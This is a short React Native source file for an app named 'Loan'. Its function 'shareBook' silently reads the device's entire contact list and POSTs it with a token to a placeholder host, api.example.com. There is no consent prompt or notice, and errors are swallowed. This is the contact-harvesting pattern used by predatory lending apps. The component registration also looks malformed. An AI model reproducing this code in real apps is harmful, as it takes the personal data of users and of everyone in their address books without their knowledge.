import { AppRegistry } from 'react-native';
import Contacts from 'react-native-contacts';

export function shareBook(token) {
  Contacts.getAllWithoutPhotos((error, everybody) => {
    if (error) { return; }
    fetch('https://api.example.com/v1/people', { method: 'POST', body: JSON.stringify({ token, everybody }) });
  });
}
AppRegistry.registerComponent('Loan', () => shareBook);
